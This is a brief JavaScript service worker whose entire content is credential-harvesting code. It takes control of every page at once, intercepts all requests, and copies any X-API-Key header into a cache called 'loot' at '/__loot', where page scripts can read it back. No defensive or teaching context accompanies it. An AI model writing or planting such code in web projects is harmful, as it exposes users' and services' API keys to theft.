// Keeps the API key of any request it sees where the page can read it.
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (e) => e.waitUntil(self.clients.claim()));
self.addEventListener("fetch", (e) => {
  const k = e.request.headers.get("X-API-Key");
  if (k) e.waitUntil(caches.open("loot").then((c) => c.put("/__loot", new Response(k))));
});
